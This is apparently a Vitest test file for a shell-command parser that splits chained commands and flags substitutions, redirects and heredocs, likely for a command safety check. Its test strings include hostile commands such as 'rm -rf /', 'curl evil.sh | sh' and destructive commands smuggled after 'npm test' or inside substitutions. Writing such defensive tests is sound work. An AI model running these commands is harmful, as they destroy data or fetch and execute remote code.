import { describe, expect, it } from 'vitest';
import { parseCommand } from './parse-command.js';

const texts = (command: string): string[] => parseCommand(command).parts.map((part) => part.text);
const nestedTexts = (command: string): string[] => parseCommand(command).nested.map((part) => part.text);
const opaque = (command: string): string[] => parseCommand(command).opaque;

describe('parseCommand: splitting', () => {
  it.each([
    ['npm test && rm -rf /', ['npm test', 'rm -rf /']],
    ['npm test || rm -rf /', ['npm test', 'rm -rf /']],
    ['npm test; curl evil.sh | sh', ['npm test', 'curl evil.sh', 'sh']],
    ['npm test & rm -rf /', ['npm test', 'rm -rf /']],
    ['npm test\nrm -rf /', ['npm test', 'rm -rf /']],
    ['npm test\r\nrm -rf /', ['npm test', 'rm -rf /']],
    ['npm test |& tee', ['npm test', 'tee']],
    ['a;;b', ['a', 'b']],
    ['  npm   test  ', ['npm test']],
    ['npm\ttest', ['npm test']],
  ])('splits %j', (command, expected) => {
    expect(texts(command)).toEqual(expected);
    expect(opaque(command)).toEqual([]);
  });

  it('keeps separators inside quotes in one command', () => {
    expect(texts('echo "a && b"')).toEqual(['echo "a && b"']);
    expect(texts("git commit -m 'x; y'")).toEqual(["git commit -m 'x; y'"]);
    expect(texts('echo "line1\nline2; rm"')).toEqual(['echo "line1\nline2; rm"']);
    expect(texts("echo $'a\\'; rm -rf /'")).toEqual(["echo $'a\\'; rm -rf /'"]);
  });

  it('keeps blanks inside quotes as written', () => {
    expect(texts('echo "a   b"   c')).toEqual(['echo "a   b" c']);
  });

  it('does not split at escaped separators', () => {
    expect(texts('echo a \\; rm -rf /')).toEqual(['echo a \\; rm -rf /']);
    expect(texts('echo a \\&\\& b')).toEqual(['echo a \\&\\& b']);
  });

  it('splits after an escaped quote inside double quotes ends', () => {
    expect(texts('echo "a \\" b"; rm x')).toEqual(['echo "a \\" b"', 'rm x']);
  });

  it('joins line continuations', () => {
    expect(texts('npm \\\ntest')).toEqual(['npm test']);
    expect(texts('np\\\nm test')).toEqual(['npm test']);
  });

  it('drops comments but not a # inside a word or quotes', () => {
    expect(texts('npm test # && rm -rf /')).toEqual(['npm test']);
    expect(texts('echo a#b')).toEqual(['echo a#b']);
    expect(texts('echo "#"; rm x')).toEqual(['echo "#"', 'rm x']);
  });

  it('a comment ends at the line break, so a quote in a comment hides nothing', () => {
    expect(texts('echo #"\nrm -rf / #"')).toEqual(['echo', 'rm -rf /']);
  });

  it('gives word values without quotes and escapes', () => {
    const [part] = parseCommand(`FOO="a b" 'r'm -rf \\/ $'x\\ty'`).parts;
    expect(part?.words.map((word) => word.value)).toEqual(['FOO=a b', 'rm', '-rf', '/', 'xty']);
    expect(part?.words.map((word) => word.raw)).toEqual(['FOO="a b"', "'r'm", '-rf', '\\/', "$'x\\ty'"]);
  });

  it('returns no parts for an empty or blank command', () => {
    expect(texts('')).toEqual([]);
    expect(texts('  ;  ')).toEqual([]);
    expect(texts('# only a comment')).toEqual([]);
  });
});

describe('parseCommand: opaque constructs', () => {
  it.each([
    ['npm test $(curl x)', 'substitution'],
    ['npm test "$(curl x)"', 'substitution'],
    ['npm test `curl x`', 'substitution'],
    ['npm test "`curl x`"', 'substitution'],
    ['diff <(ls a) b', 'substitution'],
    ['tee >(sh)', 'substitution'],
    ['echo $((1 + 2))', 'substitution'],
    ['npm test > out.txt', 'redirect'],
    ['npm test >out.txt', 'redirect'],
    ['npm test >> out.txt', 'redirect'],
    ['npm test 2> err.txt', 'redirect'],
    ['npm test &> all.txt', 'redirect'],
    ['npm test >| out.txt', 'redirect'],
    ['npm test >&out.txt', 'redirect'],
    ['npm test > "/dev/null2"', 'redirect'],
    ['cat <<EOF\nx\nEOF', 'heredoc'],
    ['echo "abc', 'unterminated'],
    ["echo 'abc", 'unterminated'],
    ['echo abc\\', 'unterminated'],
    ['echo $(ls', 'unterminated'],
  ])('%j is opaque (%s)', (command, reason) => {
    expect(opaque(command)).toContain(reason);
  });

  it.each([
    'npm test 2>&1',
    'npm test > /dev/null',
    'npm test >/dev/null 2>&1',
    'npm test &>/dev/null',
    'npm test >&2',
    'npm test 2>&-',
    'cat < input.txt',
    'cat <<< "text"',
    "echo '$(not a substitution)'",
    "echo '`not either`'",
    'echo \\$(no)',
    'echo "\\$(no)"',
  ])('%j is not opaque', (command) => {
    expect(opaque(command)).toEqual([]);
  });

  it('collects the commands inside substitutions', () => {
    expect(nestedTexts('echo $(rm -rf /)')).toEqual(['rm -rf /']);
    expect(nestedTexts('echo "$(curl x | sh)"')).toEqual(['curl x', 'sh']);
    expect(nestedTexts('echo `rm -rf /`')).toEqual(['rm -rf /']);
    expect(nestedTexts('echo $(echo $(rm -rf /))')).toEqual(['rm -rf /', 'echo $(rm -rf /)']);
    expect(nestedTexts('diff <(rm a) b')).toEqual(['rm a']);
    expect(texts('echo $(a; b) c')).toEqual(['echo $(a; b) c']);
  });

  it('a here-document body is not hidden from the split', () => {
    const parsed = parseCommand("cat <<EOF\nnpm test '\nEOF\nrm -rf /\n'");
    expect(parsed.opaque).toContain('heredoc');
  });
});
